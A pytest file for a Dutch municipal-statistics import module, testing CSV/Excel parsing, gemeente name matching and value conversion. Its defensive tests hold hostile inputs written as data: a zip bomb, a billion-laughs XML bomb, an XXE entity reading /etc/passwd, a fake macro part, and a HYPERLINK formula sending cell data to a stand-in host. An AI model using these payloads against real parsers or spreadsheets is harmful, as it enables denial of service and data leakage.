"""The figure import, pure part: reading files safely, matching gemeenten, converting to values with reasons.

No database: the gemeenten come from the CBS file shipped in regio/data, the files are built in the tests.
"""

from __future__ import annotations

import csv
import io
import random
import time
import unicodedata
import zipfile
from collections.abc import Callable

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from regio.gemeenten import gemeenten_lezen
from regiobeeld import importeren
from regiobeeld.importeren import (
    Afwijzing,
    GemeenteSleutel,
    GemeenteZoeker,
    ImportFout,
    Koppeling,
    Omzetting,
    Tabel,
    Vorm,
    koppeling_raden,
    omzetten,
    tabel_lezen,
)

INDICATOREN = {
    "huisartsen": "Huisartsen per 10.000 inwoners",
    "chronisch": "Chronisch zieken (%)",
    "inwoners": "Aantal inwoners",
}


@pytest.fixture(scope="module")
def gemeenten() -> list[GemeenteSleutel]:
    return [GemeenteSleutel(code=g.code, naam=g.naam, provincie=g.provincie) for g in gemeenten_lezen()]


@pytest.fixture(scope="module")
def zoeker(gemeenten: list[GemeenteSleutel]) -> GemeenteZoeker:
    return GemeenteZoeker(gemeenten)


def csv_bytes(regels: list[list[str]], *, scheidingsteken: str = ";", codering: str = "utf-8-sig") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=scheidingsteken, lineterminator="\r\n").writerows(regels)
    return buffer.getvalue().encode(codering)


def xlsx_bytes(rijen: list[list[object]], *, lege_rijen_boven: int = 0, verborgen_blad_ervoor: bool = False) -> bytes:
    werkmap = openpyxl.Workbook()
    blad = werkmap.active
    assert blad is not None
    if verborgen_blad_ervoor:
        blad.title = "Verborgen"
        blad.append(["Dit", "is", "niet", "het", "blad"])
        blad.sheet_state = "hidden"
        blad = werkmap.create_sheet("Cijfers")
    for _ in range(lege_rijen_boven):
        blad.append([])
    for rij in rijen:
        blad.append(rij)
    buffer = io.BytesIO()
    werkmap.save(buffer)
    return buffer.getvalue()


def zip_herschrijven(inhoud: bytes, aanpassen: Callable[[str, bytes], bytes], extra: dict[str, bytes]) -> bytes:
    """A copy of a zip with some parts changed or added (zipfile cannot replace a part in place)."""
    uit = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(inhoud)) as bron, zipfile.ZipFile(uit, "w", zipfile.ZIP_DEFLATED) as doel:
        for deel in bron.infolist():
            doel.writestr(deel.filename, aanpassen(deel.filename, bron.read(deel)))
        for naam, data in extra.items():
            doel.writestr(naam, data)
    return uit.getvalue()


def weigering(inhoud: bytes, bestandsnaam: str = "cijfers.csv", **opties: int) -> str:
    with pytest.raises(ImportFout) as fout:
        tabel_lezen(inhoud, bestandsnaam, **opties)
    return str(fout.value)


def als_paren(omzetting: Omzetting) -> list[tuple[str, str, int, float]]:
    return list(omzetting.waarden.itertuples(index=False, name=None))


STATLINE = (
    '"ID";"Regio\'s";"Perioden";"Huisartsen per 10.000 inwoners";"Chronisch zieken (%)"\r\n'
    '0;"GM0363  ";"2022JJ00";"7,1";"31,5"\r\n'
    '1;"GM0363  ";"2023JJ00";"7,3";"."\r\n'
    '2;"GM0518  ";"2023JJ00";"6,9";"x"\r\n'
    '3;"GM1900  ";"2023*";"8,0";"29,9"\r\n'
    '"Bron: CBS"\r\n'
)


# -- reading CSV --


def test_a_statline_export_with_bom_semicolons_and_decimal_commas_is_read_as_text_cells() -> None:
    tabel = tabel_lezen(STATLINE.encode("utf-8-sig"), "83765NED.csv")

    assert tabel.kolommen == [
        "ID",
        "Regio's",
        "Perioden",
        "Huisartsen per 10.000 inwoners",
        "Chronisch zieken (%)",
    ]
    assert (tabel.bestandstype, tabel.codering, tabel.scheidingsteken) == ("csv", "utf-8-sig", ";")
    assert tabel.voorbeeld(2) == [
        ["0", "GM0363  ", "2022JJ00", "7,1", "31,5"],
        ["1", "GM0363  ", "2023JJ00", "7,3", "."],
    ]
    assert list(tabel.rijen.index) == [0, 1, 2, 3]
    assert list(tabel.rijen.columns) == tabel.kolommen
    # The "Bron: CBS" footer is a note, not a row to reject.
    assert list(tabel.regels()) == [2, 3, 4, 5]


def test_the_statline_export_converts_to_values_and_counts_missing_markers(zoeker: GemeenteZoeker) -> None:
    tabel = tabel_lezen(STATLINE.encode("utf-8-sig"), "83765NED.csv")
    koppeling = Koppeling(
        Vorm.BREED_INDICATOREN,
        gemeente_kolom="Regio's",
        jaar_kolom="Perioden",
        indicator_kolommen={
            "Huisartsen per 10.000 inwoners": "huisartsen",
            "Chronisch zieken (%)": "chronisch",
        },
    )

    omzetting = omzetten(tabel, koppeling, zoeker, INDICATOREN)

    assert als_paren(omzetting) == [
        ("chronisch", "GM0363", 2022, 31.5),
        ("chronisch", "GM1900", 2023, 29.9),
        ("huisartsen", "GM0363", 2022, 7.1),
        ("huisartsen", "GM0363", 2023, 7.3),
        ("huisartsen", "GM0518", 2023, 6.9),
        ("huisartsen", "GM1900", 2023, 8.0),
    ]
    assert list(omzetting.waarden.columns) == ["indicator", "gemeente", "jaar", "waarde"]
    assert str(omzetting.waarden["jaar"].dtype) == "int64"
    assert str(omzetting.waarden["waarde"].dtype) == "float64"
    assert omzetting.leeg == 2
    assert omzetting.afgewezen == []
    assert omzetting.ok


def test_a_latin1_file_with_sudwest_fryslan_is_decoded_and_matched(zoeker: GemeenteZoeker) -> None:
    inhoud = csv_bytes(
        [
            ["Gemeente", "Jaar", "Aantal inwoners"],
            ["Súdwest-Fryslân", "2023", "91.000"],
            ["'s-Gravenhage", "2023", "1"],
        ],
        codering="latin-1",
    )
    tabel = tabel_lezen(inhoud, "vektis.csv")
    omzetting = omzetten(
        tabel,
        Koppeling(
            Vorm.BREED_INDICATOREN,
            "Gemeente",
            jaar_kolom="Jaar",
            indicator_kolommen={"Aantal inwoners": "inwoners"},
        ),
        zoeker,
        INDICATOREN,
    )

    assert tabel.codering == "latin-1"
    assert tabel.rijen.iloc[0, 0] == "Súdwest-Fryslân"
    assert als_paren(omzetting) == [("inwoners", "GM0518", 2023, 1.0), ("inwoners", "GM1900", 2023, 91.0)]


def test_a_windows_1252_file_keeps_its_euro_signs() -> None:
    tabel = tabel_lezen("Gemeente;Kosten\r\nAmsterdam;€ 12,50\r\n".encode("cp1252"), "kosten.csv")

    assert tabel.codering == "cp1252"
    assert tabel.rijen.iloc[0, 1] == "€ 12,50"


@pytest.mark.parametrize(
    ("scheidingsteken", "naam"), [(",", "komma"), ("\t", "tab"), (";", "puntkomma")], ids=lambda x: repr(x)
)
def test_comma_tab_and_semicolon_separated_files_are_recognised(scheidingsteken: str, naam: str) -> None:
    inhoud = csv_bytes(
        [["Gemeente", "Jaar", "Waarde"], ["Amsterdam", "2023", "12,5"], ["Utrecht", "2023", "1.234,5"]],
        scheidingsteken=scheidingsteken,
        codering="utf-8",
    )
    tabel = tabel_lezen(inhoud, f"{naam}.csv")

    assert tabel.scheidingsteken == scheidingsteken
    assert tabel.kolommen == ["Gemeente", "Jaar", "Waarde"]
    assert tabel.voorbeeld() == [["Amsterdam", "2023", "12,5"], ["Utrecht", "2023", "1.234,5"]]


def test_a_semicolon_file_with_a_decimal_comma_in_every_row_is_not_mistaken_for_comma_separated() -> None:
    inhoud = b"Gemeente;Waarde\nAmsterdam;12,5\nUtrecht;3,25\nDelft;1,0\n"

    assert tabel_lezen(inhoud, "x.csv").kolommen == ["Gemeente", "Waarde"]


def test_line_numbers_count_title_lines_blank_lines_and_quoted_line_breaks() -> None:
    inhoud = b'"Huisartsen per gemeente"\n\nGemeente;Toelichting;Waarde\nAmsterdam;"twee\nregels";1\n\nUtrecht;;2\n'
    tabel = tabel_lezen(inhoud, "x.csv")

    assert tabel.kolommen == ["Gemeente", "Toelichting", "Waarde"]
    assert list(tabel.regels()) == [4, 7]


def test_duplicate_and_empty_headers_get_unique_names() -> None:
    tabel = tabel_lezen(b"Gemeente;Waarde;Waarde;;Waarde\nAmsterdam;1;2;3;4\n", "x.csv")

    assert tabel.kolommen == ["Gemeente", "Waarde", "Waarde (2)", "Kolom 4", "Waarde (3)"]


def test_rows_shorter_than_the_header_are_padded_with_empty_cells() -> None:
    tabel = tabel_lezen(b"Gemeente;Jaar;Waarde\nAmsterdam;2023\n", "x.csv")

    assert tabel.voorbeeld() == [["Amsterdam", "2023", ""]]


# -- reading Excel --


def test_an_excel_file_is_read_from_its_first_visible_sheet_below_empty_rows() -> None:
    inhoud = xlsx_bytes(
        [["Gemeente", "Jaar", "Waarde"], ["GM0363", 2023.0, 12.5], ["Utrecht", 2023, 7]],
        lege_rijen_boven=2,
        verborgen_blad_ervoor=True,
    )
    tabel = tabel_lezen(inhoud, "cijfers.xlsx")

    assert (tabel.bestandstype, tabel.codering, tabel.scheidingsteken) == ("xlsx", None, None)
    assert tabel.kolommen == ["Gemeente", "Jaar", "Waarde"]
    assert tabel.voorbeeld() == [["GM0363", "2023", "12.5"], ["Utrecht", "2023", "7"]]
    assert list(tabel.regels()) == [4, 5]  # sheet rows: header on row 3


def test_an_excel_file_converts_and_rejections_point_at_sheet_rows(zoeker: GemeenteZoeker) -> None:
    inhoud = xlsx_bytes([["Gemeente", "Jaar", "Aantal inwoners"], ["GM0363", 2023, 931298], ["Atlantis", 2023, 5]])
    tabel = tabel_lezen(inhoud, "cijfers.xlsx")
    koppeling = koppeling_raden(tabel, INDICATOREN, zoeker=zoeker)
    assert koppeling is not None

    omzetting = omzetten(tabel, koppeling, zoeker, INDICATOREN)

    assert als_paren(omzetting) == [("inwoners", "GM0363", 2023, 931298.0)]
    assert omzetting.afgewezen == [Afwijzing(3, "Gemeente 'Atlantis' niet gevonden")]


def test_an_excel_file_with_a_formula_is_refused_naming_the_cell() -> None:
    rijen: list[list[object]] = [["Gemeente", "Jaar", "Waarde"], *[["Amsterdam", 2023, 1]] * 5]
    rijen.append(["Utrecht", 2023, "=C2*2"])

    melding = weigering(xlsx_bytes(rijen), "cijfers.xlsx")

    assert "formules" in melding
    assert "C7" in melding


def test_an_empty_workbook_is_refused() -> None:
    assert "leeg" in weigering(xlsx_bytes([]), "leeg.xlsx")


# -- refusals --


def test_a_file_over_20_mb_is_refused_with_advice() -> None:
    melding = weigering(b"a;b\n" * (importeren.MAX_BESTAND_BYTES // 4 + 1))

    assert melding == (
        "Het bestand is groter dan 20 MB. Splits het bestand of laat kolommen weg die u niet nodig hebt."
    )


def test_the_size_limit_can_be_lowered_by_the_caller() -> None:
    assert "groter dan" in weigering(STATLINE.encode(), max_bytes=100)


@pytest.mark.parametrize("inhoud", [b"", b"  \r\n\t\n"], ids=["niets", "witruimte"])
def test_an_empty_file_is_refused(inhoud: bytes) -> None:
    assert "leeg" in weigering(inhoud)


def test_more_rows_than_allowed_are_refused() -> None:
    melding = weigering(b"Gemeente;Waarde\n" + b"Amsterdam;1\n" * 4, max_rijen=3)

    assert "meer dan 3 regels" in melding


@pytest.mark.parametrize(
    ("inhoud", "naam", "uitleg"),
    [
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "cijfers.pdf", "PDF"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01", "grafiek.png", "afbeelding"),
        (random.Random(7).randbytes(4096), "cijfers.csv", "geen leesbare tekst"),  # noqa: S311 - test data
        (
            b"<!DOCTYPE html>\n<html><body><table><tr><td>1</td></tr></table></body></html>",
            "export.csv",
            "HTML",
        ),
        (b"Amsterdam\nUtrecht\nDelft\n", "een-kolom.csv", "minstens twee kolommen"),
        (b"Gemeente;Waarde\n", "alleen-kop.csv", "geen regels met gegevens"),
        (b"Gemeente;Jaar;Waarde\r\n;;\r\n", "lege-regels.csv", "geen regels met gegevens"),
    ],
    ids=["pdf", "png", "willekeurige-bytes", "html", "een-kolom", "alleen-kopregel", "alleen-lege-regels"],
)
def test_files_that_are_not_a_table_are_refused_saying_what_they_are(inhoud: bytes, naam: str, uitleg: str) -> None:
    assert uitleg in weigering(inhoud, naam)


def test_an_old_binary_excel_file_is_refused_by_its_content_and_by_its_name() -> None:
    ole2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)

    assert ".xls" in weigering(ole2, "cijfers.bin")
    assert ".xlsx" in weigering(b"Gemeente;Waarde\nAmsterdam;1\n", "cijfers.xls")


def test_files_with_macros_are_refused_by_name_and_by_content() -> None:
    werkmap = xlsx_bytes([["Gemeente", "Waarde"], ["Amsterdam", 1]])
    met_macro = zip_herschrijven(werkmap, lambda _naam, data: data, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})

    assert "macro's" in weigering(werkmap, "cijfers.xlsm")
    assert "macro's" in weigering(met_macro, "cijfers.xlsx")


def test_a_zip_bomb_is_refused_before_openpyxl_unpacks_it(monkeypatch: pytest.MonkeyPatch) -> None:
    werkmap = xlsx_bytes([["Gemeente", "Waarde"], ["Amsterdam", 1]])
    bom = zip_herschrijven(werkmap, lambda _naam, data: data, {"xl/media/image1.png": bytes(50 * 1024 * 1024)})
    assert len(bom) < 1024 * 1024  # 50 MB of zeros packs into well under 1 MB
    geopend: list[object] = []
    monkeypatch.setattr(importeren.openpyxl, "load_workbook", lambda *a, **k: geopend.append(a))

    melding = weigering(bom, "bom.xlsx")

    assert "uitpakt" in melding or "pakt uit" in melding
    assert geopend == []


def test_a_workbook_that_unpacks_beyond_the_total_limit_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(importeren, "MAX_UITGEPAKT_BYTES", 1000)

    assert "pakt uit" in weigering(xlsx_bytes([["Gemeente", "Waarde"], ["Amsterdam", 1]]), "groot.xlsx")


def test_a_well_compressed_small_part_is_not_mistaken_for_a_bomb() -> None:
    werkmap = xlsx_bytes([["Gemeente", "Waarde"], ["Amsterdam", 1]])
    klein = zip_herschrijven(werkmap, lambda _naam, data: data, {"xl/media/image1.png": bytes(512 * 1024)})

    assert tabel_lezen(klein, "klein.xlsx").kolommen == ["Gemeente", "Waarde"]


BILLION_LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<!DOCTYPE worksheet [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
    + b"]>\n"
)


@pytest.mark.parametrize(
    "doctype",
    [BILLION_LAUGHS, b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'],
    ids=["billion-laughs", "external-entity"],
)
def test_an_xlsx_with_an_xml_bomb_in_its_sheet_is_refused(doctype: bytes) -> None:
    werkmap = xlsx_bytes([["Gemeente", "Waarde"], ["Amsterdam", 1]])

    def bom_erin(naam: str, data: bytes) -> bytes:
        if naam != "xl/worksheets/sheet1.xml":
            return data
        zonder_declaratie = data.split(b"?>", 1)[-1]
        return doctype + zonder_declaratie.replace(b"<v>", b"<v>&lol9;", 1)

    melding = weigering(zip_herschrijven(werkmap, bom_erin, {}), "bom.xlsx")

    assert "DTD" in melding


def test_a_zip_that_is_not_a_workbook_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archief:
        archief.writestr("cijfers.csv", "Gemeente;Waarde\nAmsterdam;1\n")

    assert "geen Excel-werkmap" in weigering(buffer.getvalue(), "cijfers.zip")


@pytest.mark.parametrize("knippen", [0.5, 0.9], ids=["half", "bijna-heel"])
def test_a_damaged_workbook_becomes_an_import_error_not_a_crash(knippen: float) -> None:
    werkmap = xlsx_bytes([["Gemeente", "Waarde"], ["Amsterdam", 1]])

    assert weigering(werkmap[: int(len(werkmap) * knippen)], "kapot.xlsx")


def test_a_text_file_named_xlsx_is_refused_with_advice() -> None:
    assert ".xlsx" in weigering(b"Gemeente;Waarde\nAmsterdam;1\n", "cijfers.xlsx")


# -- gemeenten --


def test_every_official_name_and_code_of_the_342_gemeenten_matches_itself(
    gemeenten: list[GemeenteSleutel], zoeker: GemeenteZoeker
) -> None:
    assert len(gemeenten) == 342
    for gemeente in gemeenten:
        nummer = gemeente.code[2:]
        spellingen = [
            gemeente.naam,
            gemeente.code,
            gemeente.code.lower(),
            nummer,
            str(int(nummer)),
            f" {gemeente.code} ",
        ]
        assert {s: zoeker.zoek(s) for s in spellingen} == dict.fromkeys(spellingen, gemeente.code)


def test_every_gemeente_matches_in_vektis_spelling(gemeenten: list[GemeenteSleutel], zoeker: GemeenteZoeker) -> None:
    """Vektis writes names in upper-case ASCII without codes: "SUDWEST-FRYSLAN", "BERGEN NH"."""
    for gemeente in gemeenten:
        ascii_naam = unicodedata.normalize("NFKD", gemeente.naam).encode("ascii", "ignore").decode().upper()
        vektis = ascii_naam.replace("'", "").replace(",", "").replace("(", "").replace(")", "").replace(".", "")
        assert zoeker.zoek(vektis) == gemeente.code, vektis


@pytest.mark.parametrize(
    ("tekst", "code"),
    [
        ("S GRAVENHAGE", "GM0518"),
        ("DEN HAAG", "GM0518"),
        ("Den Haag", "GM0518"),
        ("'s-Gravenhage (gemeente)", "GM0518"),
        ("BERGEN NH", "GM0373"),
        ("BERGEN (NH)", "GM0373"),
        ("Bergen (NH.)", "GM0373"),
        ("Bergen (Noord-Holland)", "GM0373"),
        ("BERGEN L", "GM0893"),
        ("BERGEN (L)", "GM0893"),
        ("Bergen (L.)", "GM0893"),
        ("BERGEN LB", "GM0893"),
        ("SUDWEST-FRYSLAN", "GM1900"),
        ("SUDWEST FRYSLAN", "GM1900"),
        ("Súdwest-Fryslân", "GM1900"),
        ("S HERTOGENBOSCH", "GM0796"),
        ("DEN BOSCH", "GM0796"),
        ("NUENEN GERWEN EN NEDERWETTEN", "GM0820"),
        ("Nuenen c.a.", "GM0820"),
        ("Utrecht (gemeente)", "GM0344"),
        ("Gemeente Utrecht", "GM0344"),
        ("HENGELO O", "GM0164"),
        ("Rijswijk (ZH.)", "GM0603"),
        ("RIJSWIJK ZH", "GM0603"),
        ("Middelburg (Z.)", "GM0687"),
        ("LAREN NH", "GM0417"),
        ("Beek (L.)", "GM0888"),
        ("STEIN L", "GM0971"),
        ("GM0363  ", "GM0363"),
        ("gm0363", "GM0363"),
        ("0363", "GM0363"),
        ("363", "GM0363"),
    ],
)
def test_awkward_spellings_match_the_right_gemeente(zoeker: GemeenteZoeker, tekst: str, code: str) -> None:
    assert zoeker.zoek(tekst) == code


@pytest.mark.parametrize(
    ("tekst", "in_reden"),
    [
        ("BERGEN", "niet eenduidig"),
        ("Atlantis", "niet gevonden"),
        ("GM9999", "bestaat niet"),
        ("Utrecht (PV)", "provincie"),
        ("PV26", "provincie"),
        ("WK036300", "wijk"),
        ("Nederland", "hele land"),
        ("Hengelo (Gld.)", "niet gevonden"),
        ("   ", "ontbreekt"),
    ],
)
def test_unknown_ambiguous_and_non_gemeente_texts_give_no_code_and_a_reason(
    zoeker: GemeenteZoeker, tekst: str, in_reden: str
) -> None:
    code, reden = zoeker.zoek_met_reden(tekst)

    assert code is None
    assert reden is not None and in_reden in reden


def test_the_ambiguous_reason_names_both_candidates(zoeker: GemeenteZoeker) -> None:
    assert zoeker.zoek_met_reden("BERGEN")[1] == (
        "Gemeente 'BERGEN' is niet eenduidig: bedoelt u Bergen (L.) of Bergen (NH.)?"
    )


def test_the_index_follows_the_given_division_not_a_fixed_list() -> None:
    zoeker = GemeenteZoeker([GemeenteSleutel("GM0001", "Bergen (NH.)", "Noord-Holland")])

    assert zoeker.zoek("BERGEN") == "GM0001"  # unambiguous in this division
    assert zoeker.zoek("Den Haag") is None


# -- conversion: values, years, rejections --


def lange_tabel(*regels: tuple[str, str, str, str]) -> Tabel:
    return tabel_lezen(csv_bytes([["Gemeente", "Jaar", "Indicator", "Waarde"], *map(list, regels)]), "lang.csv")


LANG = Koppeling(Vorm.LANG, "Gemeente", jaar_kolom="Jaar", indicator_kolom="Indicator", waarde_kolom="Waarde")


@pytest.mark.parametrize(
    ("tekst", "getal"),
    [
        ("12,5", 12.5),
        ("12.5", 12.5),
        ("1.234,5", 1234.5),
        ("1,234.5", 1234.5),
        ("-3,25", -3.25),
        ("12,5%", 12.5),
        ("1 234", 1234.0),
        ("0", 0.0),
        ("1.5E-3", 0.0015),
    ],
)
def test_numbers_in_dutch_and_english_notation_are_read(zoeker: GemeenteZoeker, tekst: str, getal: float) -> None:
    omzetting = omzetten(lange_tabel(("Amsterdam", "2023", "inwoners", tekst)), LANG, zoeker, INDICATOREN)

    assert omzetting.waarden["waarde"].tolist() == [pytest.approx(getal)]


def test_a_file_with_decimal_commas_reads_a_dot_as_thousands_separator(zoeker: GemeenteZoeker) -> None:
    tabel = lange_tabel(("Amsterdam", "2023", "inwoners", "1.234"), ("Utrecht", "2023", "inwoners", "7,5"))
    waarden = omzetten(tabel, LANG, zoeker, INDICATOREN).waarden

    assert dict(zip(waarden["gemeente"], waarden["waarde"], strict=True)) == {"GM0363": 1234.0, "GM0344": 7.5}


@pytest.mark.parametrize("tekst", ["2023", "2023JJ00", "2023*", "2023 (voorlopig)", "2023.0", " 2023 "])
def test_years_in_cbs_and_excel_spellings_are_read(zoeker: GemeenteZoeker, tekst: str) -> None:
    omzetting = omzetten(lange_tabel(("Amsterdam", tekst, "inwoners", "1")), LANG, zoeker, INDICATOREN)

    assert omzetting.waarden["jaar"].tolist() == [2023]


@pytest.mark.parametrize(
    ("tekst", "reden"),
    [
        ("20x3", "Jaar '20x3' is geen jaartal"),
        ("1850", "Jaar '1850' ligt niet tussen 1900 en 2100"),
        (
            "2023KW01",
            "Periode '2023KW01' is een kwartaal of maand; alleen cijfers per jaar kunnen worden ingelezen",
        ),
        ("", "Jaar ontbreekt"),
    ],
)
def test_unusable_years_are_rejected_with_a_reason(zoeker: GemeenteZoeker, tekst: str, reden: str) -> None:
    omzetting = omzetten(lange_tabel(("Amsterdam", tekst, "inwoners", "1")), LANG, zoeker, INDICATOREN)

    assert omzetting.afgewezen == [Afwijzing(2, reden)]


def test_every_unusable_row_is_reported_with_its_line_and_a_specific_reason(zoeker: GemeenteZoeker) -> None:
    tabel = lange_tabel(
        ("Amsterdam", "2023", "inwoners", "931298"),  # line 2: fine
        ("Atlantis", "2023", "inwoners", "5"),  # 3
        ("BERGEN", "2023", "inwoners", "5"),  # 4
        ("Utrecht", "2023", "inwoners", "abc"),  # 5
        ("Delft", "20x3", "inwoners", "5"),  # 6
        ("Delft", "2023", "xyz", "5"),  # 7
        ("GM0363", "2023", "Aantal inwoners", "931299"),  # 8: the same value as line 2, by code and by name
        ("Leiden", "2023", "inwoners", "."),  # 9: missing, not an error
    )

    omzetting = omzetten(tabel, LANG, zoeker, INDICATOREN)

    assert omzetting.afgewezen == [
        Afwijzing(3, "Gemeente 'Atlantis' niet gevonden"),
        Afwijzing(4, "Gemeente 'BERGEN' is niet eenduidig: bedoelt u Bergen (L.) of Bergen (NH.)?"),
        Afwijzing(5, "Waarde 'abc' is geen getal"),
        Afwijzing(6, "Jaar '20x3' is geen jaartal"),
        Afwijzing(7, "Indicator 'xyz' staat niet in de catalogus"),
        Afwijzing(8, "Dubbel: dezelfde gemeente, indicator en jaar staan ook op regel 2"),
    ]
    assert als_paren(omzetting) == [("inwoners", "GM0363", 2023, 931298.0)]
    assert omzetting.leeg == 1
    assert not omzetting.ok


def test_indicator_cells_match_codes_and_names_regardless_of_case_and_accents(zoeker: GemeenteZoeker) -> None:
    tabel = lange_tabel(
        ("Amsterdam", "2023", "HUISARTSEN", "7"),
        ("Amsterdam", "2023", "chronisch zieken", "30"),
        ("Amsterdam", "2023", "Aantal Inwoners", "931298"),
    )

    omzetting = omzetten(tabel, LANG, zoeker, INDICATOREN)

    assert sorted(omzetting.waarden["indicator"]) == ["chronisch", "huisartsen", "inwoners"]


def test_spreadsheet_formula_text_in_a_csv_is_rejected_harmlessly(zoeker: GemeenteZoeker) -> None:
    lang = '=HYPERLINK("http://example.invalid/?"&A1,"klik hier voor uw cijfers van dit jaar en vorig jaar")'
    tabel = lange_tabel((lang, "2023", "inwoners", "5"), ("Amsterdam", "2023", "inwoners", "@SUM(A1:A9)\n+1"))

    afgewezen = omzetten(tabel, LANG, zoeker, INDICATOREN).afgewezen

    assert [a.regel for a in afgewezen] == [2, 3]
    assert afgewezen[1].reden == "Waarde '@SUM(A1:A9) +1' is geen getal"
    for afwijzing in afgewezen:
        assert afwijzing.reden[0] not in "=+-@"
        assert "\n" not in afwijzing.reden
        assert len(afwijzing.reden) < 120


def test_a_wide_table_with_one_column_per_indicator_converts(zoeker: GemeenteZoeker) -> None:
    tabel = tabel_lezen(
        csv_bytes(
            [
                ["Gemeente", "Huisartsen per 10.000 inwoners", "Aantal inwoners", "Opmerking"],
                ["Amsterdam", "7,1", "931298", "tekst"],
                ["BERGEN NH", "x", "29.000", ""],
                ["Atlantis", "1", "2", ""],
            ]
        ),
        "breed.csv",
    )
    koppeling = Koppeling(
        Vorm.BREED_INDICATOREN,
        "Gemeente",
        vaste_jaar=2024,
        indicator_kolommen={"Huisartsen per 10.000 inwoners": "huisartsen", "Aantal inwoners": "inwoners"},
    )

    omzetting = omzetten(tabel, koppeling, zoeker, INDICATOREN)

    assert als_paren(omzetting) == [
        ("huisartsen", "GM0363", 2024, 7.1),
        ("inwoners", "GM0363", 2024, 931298.0),
        ("inwoners", "GM0373", 2024, 29000.0),
    ]
    assert omzetting.leeg == 1
    assert omzetting.afgewezen == [Afwijzing(4, "Gemeente 'Atlantis' niet gevonden")]  # once, not per cell


def test_a_wide_table_with_one_column_per_year_converts(zoeker: GemeenteZoeker) -> None:
    tabel = tabel_lezen(
        csv_bytes(
            [
                ["Gemeentenaam", "Indicator", "2021", "2022", "2023*"],
                ["DEN HAAG", "huisartsen", "6,5", "6,7", "6,8"],
                ["DEN HAAG", "inwoners", "552.995", "556.000", "abc"],
            ]
        ),
        "jaren.csv",
    )
    koppeling = Koppeling(
        Vorm.BREED_JAREN,
        "Gemeentenaam",
        indicator_kolom="Indicator",
        jaar_kolommen={"2021": 2021, "2022": 2022, "2023*": 2023},
    )

    omzetting = omzetten(tabel, koppeling, zoeker, INDICATOREN)

    assert als_paren(omzetting) == [
        ("huisartsen", "GM0518", 2021, 6.5),
        ("huisartsen", "GM0518", 2022, 6.7),
        ("huisartsen", "GM0518", 2023, 6.8),
        ("inwoners", "GM0518", 2021, 552995.0),
        ("inwoners", "GM0518", 2022, 556000.0),
    ]
    assert omzetting.afgewezen == [Afwijzing(3, "Waarde 'abc' in kolom '2023*' is geen getal")]


def test_a_fixed_indicator_and_year_apply_to_the_whole_file(zoeker: GemeenteZoeker) -> None:
    tabel = tabel_lezen(b"Gemeente;Waarde\nAmsterdam;7\nUtrecht;8\n", "x.csv")
    koppeling = Koppeling(Vorm.LANG, "Gemeente", vaste_jaar=2022, vaste_indicator="huisartsen", waarde_kolom="Waarde")

    assert als_paren(omzetten(tabel, koppeling, zoeker, INDICATOREN)) == [
        ("huisartsen", "GM0344", 2022, 8.0),
        ("huisartsen", "GM0363", 2022, 7.0),
    ]


def test_progress_is_reported_a_few_times_up_to_100(zoeker: GemeenteZoeker) -> None:
    gemeld: list[int] = []
    omzetten(
        lange_tabel(("Amsterdam", "2023", "inwoners", "1")),
        LANG,
        zoeker,
        INDICATOREN,
        voortgang=gemeld.append,
    )

    assert gemeld == sorted(gemeld)
    assert gemeld[-1] == 100
    assert 2 <= len(gemeld) <= 10


def test_ok_needs_at_least_one_value_and_no_rejections(zoeker: GemeenteZoeker) -> None:
    alleen_leeg = omzetten(lange_tabel(("Amsterdam", "2023", "inwoners", ".")), LANG, zoeker, INDICATOREN)

    assert alleen_leeg.afgewezen == []
    assert not alleen_leeg.ok
    assert omzetten(lange_tabel(("Amsterdam", "2023", "inwoners", "1")), LANG, zoeker, INDICATOREN).ok


def test_an_invalid_mapping_refuses_the_conversion(zoeker: GemeenteZoeker) -> None:
    tabel = lange_tabel(("Amsterdam", "2023", "inwoners", "1"))

    with pytest.raises(ImportFout, match="Bestaat niet"):
        omzetten(
            tabel,
            Koppeling(
                Vorm.LANG,
                "Bestaat niet",
                jaar_kolom="Jaar",
                vaste_indicator="inwoners",
                waarde_kolom="Waarde",
            ),
            zoeker,
            INDICATOREN,
        )
    with pytest.raises(ImportFout, match="catalogus"):
        omzetten(
            tabel,
            Koppeling(Vorm.LANG, "Gemeente", jaar_kolom="Jaar", vaste_indicator="onbekend", waarde_kolom="Waarde"),
            zoeker,
            INDICATOREN,
        )


def test_about_100000_values_convert_within_a_generous_sanity_bound(
    gemeenten: list[GemeenteSleutel], zoeker: GemeenteZoeker
) -> None:
    """342 gemeenten x 30 indicators x 10 years. Not a benchmark: the bound only catches per-row slowness."""
    indicatoren = {f"ind{i}": f"Indicator {i}" for i in range(30)}
    regels = [["Gemeente", "Perioden", *indicatoren.values()]]
    regels += [
        [g.naam.upper(), f"{jaar}JJ00", *[f"{i},5" for i in range(30)]] for g in gemeenten for jaar in range(2014, 2024)
    ]
    tabel = tabel_lezen(csv_bytes(regels), "groot.csv")
    koppeling = koppeling_raden(tabel, indicatoren)
    assert koppeling is not None

    begin = time.perf_counter()
    omzetting = omzetten(tabel, koppeling, zoeker, indicatoren)
    duur = time.perf_counter() - begin

    assert len(omzetting.waarden) == 342 * 30 * 10
    assert omzetting.afgewezen == []
    assert duur < 20


# -- guessing the mapping --


def test_the_mapping_of_a_statline_export_is_guessed(zoeker: GemeenteZoeker) -> None:
    tabel = tabel_lezen(STATLINE.encode("utf-8-sig"), "83765NED.csv")

    assert koppeling_raden(tabel, INDICATOREN, zoeker=zoeker) == Koppeling(
        Vorm.BREED_INDICATOREN,
        gemeente_kolom="Regio's",
        jaar_kolom="Perioden",
        indicator_kolommen={
            "Huisartsen per 10.000 inwoners": "huisartsen",
            "Chronisch zieken (%)": "chronisch",
        },
    )


